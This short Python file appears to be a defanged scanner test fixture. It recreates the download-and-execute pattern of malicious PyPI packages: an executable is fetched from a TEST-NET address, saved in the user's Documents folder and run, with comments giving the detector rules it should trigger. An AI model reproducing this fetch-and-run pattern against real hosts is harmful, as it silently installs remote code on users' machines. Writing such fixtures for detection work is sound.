# Shape of "pyfetcher"/"colorscmd"/"utilitytools" (2023-2024): a download
# helper and a launch helper, joined only by the path their caller passes to
# both. Defanged: the host is a TEST-NET address, nothing is fetched.
import os
import subprocess

import requests


def download(url, path):
    reponse = requests.get(url)  # expect: HS118 high
    with open(path, "wb") as fichier:
        fichier.write(reponse.content)


def launch(path):
    os.startfile(path)  # expect: HS107 critical


def run_exe(exe_path):
    subprocess.Popen([os.path.abspath(exe_path)])  # expect: HS107 critical


dl_url = "http://192.0.2.10/builds/checker.exe"
target = os.path.join(os.path.expanduser("~"), "Documents", "checker_cache.exe")

download(dl_url, target)
launch(target)
run_exe(target)
